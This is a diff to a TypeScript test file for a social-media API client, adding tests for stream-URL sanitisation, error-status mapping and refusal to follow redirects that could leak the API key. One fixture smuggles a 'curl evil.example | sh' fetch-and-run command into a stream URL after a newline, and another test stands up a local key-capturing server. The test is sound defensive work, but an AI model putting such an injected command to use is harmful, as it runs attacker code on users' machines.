@@ -1,6 +1,9 @@
 import { readFileSync } from 'node:fs';
 import { describe, expect, it } from 'vitest';
+import http from 'node:http';
+import type { AddressInfo } from 'node:net';
 import { createSocialFetchClient, parseRetryAfter } from '@/lib/socialfetch/client';
+import { startFakeSocialFetch } from '../fake-socialfetch';
 
 const sample = (name: string) => readFileSync(`tests/fixtures/socialfetch/${name}.json`, 'utf8');
 const NOW = Date.parse('2026-11-24T20:00:00Z');
@@ -63,6 +66,16 @@ describe('lookupLive', () => {
     ]);
   });
 
+  it('keeps only normalised stream URLs: one with an embedded newline and command is never offered for copying', async () => {
+    const live = JSON.parse(sample('live'));
+    live.data.live.variants = [
+      { codec: 'h264', source: 'primary', quality: 'hd', hlsUrl: 'https://cdn.example/a.m3u8\ncurl evil.example | sh', flvUrl: 'HTTPS://CDN.example/b.flv?x=1' },
+    ];
+    const result = await clientAnswering(200, JSON.stringify(live)).client.lookupLive('sunny.cooks');
+    if (!result.ok || result.data.status !== 'live') throw new Error('expected live');
+    expect(result.data.live.variants).toEqual([expect.objectContaining({ hls: null, flv: 'https://cdn.example/b.flv?x=1' })]);
+  });
+
   it('tolerates unknown fields and missing or mistyped assumed fields', async () => {
     const live = JSON.parse(sample('live'));
     live.data.newVendorField = { anything: true };
@@ -107,14 +120,37 @@ describe('error mapping', () => {
     [404, 'bad_request'],
     [429, 'rate_limited'],
     [500, 'internal_error'],
-    [502, 'lookup_failed'],
+    // A gateway's own page: the service is out of reach (back off), not one profile failing.
+    [502, 'temporarily_unavailable'],
     [503, 'temporarily_unavailable'],
+    [504, 'temporarily_unavailable'],
   ])('HTTP %i with an HTML proxy page or empty body → %s from the status', async (status, kind) => {
     const html = await clientAnswering(status, '<html><body>Bad gateway</body></html>', { 'content-type': 'text/html' })
       .client.lookupLive('x');
     expect(html).toMatchObject({ ok: false, error: { kind, status } });
     const empty = await clientAnswering(status, '').client.lookupLive('x');
     expect(empty).toMatchObject({ ok: false, error: { kind, status } });
+  });
+
+  it('refuses to follow a redirect: a typed error, the key sent nowhere else, nothing retried', async () => {
+    const { client, calls } = clientAnswering(302, '', { location: 'https://elsewhere.example/steal' });
+    expect(await client.lookupLive('x')).toMatchObject({ ok: false, error: { kind: 'redirected', message: expect.stringMatching(/did not follow/) } });
+    expect(calls).toHaveLength(1);
+    expect(calls[0]?.init?.redirect).toBe('manual');
+  });
+
+  it('against a real server, a 302 to another host reaches that host never', async () => {
+    const elsewhere: string[] = [];
+    const thief = http.createServer((req, res) => (elsewhere.push(String(req.headers['x-api-key'])), res.end('{}')));
+    await new Promise<void>((r) => thief.listen(0, '127.0.0.1', r));
+    const fake = await startFakeSocialFetch();
+    fake.fault({ kind: 'redirect', location: `http://127.0.0.1:${(thief.address() as AddressInfo).port}/steal` }, { handle: 'x' });
+    const client = createSocialFetchClient({ getKey: () => 'sfk_test_valid', origin: fake.origin });
+    const result = await client.lookupLive('x');
+    expect(result).toMatchObject({ ok: false, error: { kind: 'redirected' } });
+    expect(elsewhere).toEqual([]);
+    await fake.close();
+    thief.close();
   });
 
   it('an unknown code falls back to the status', async () => {
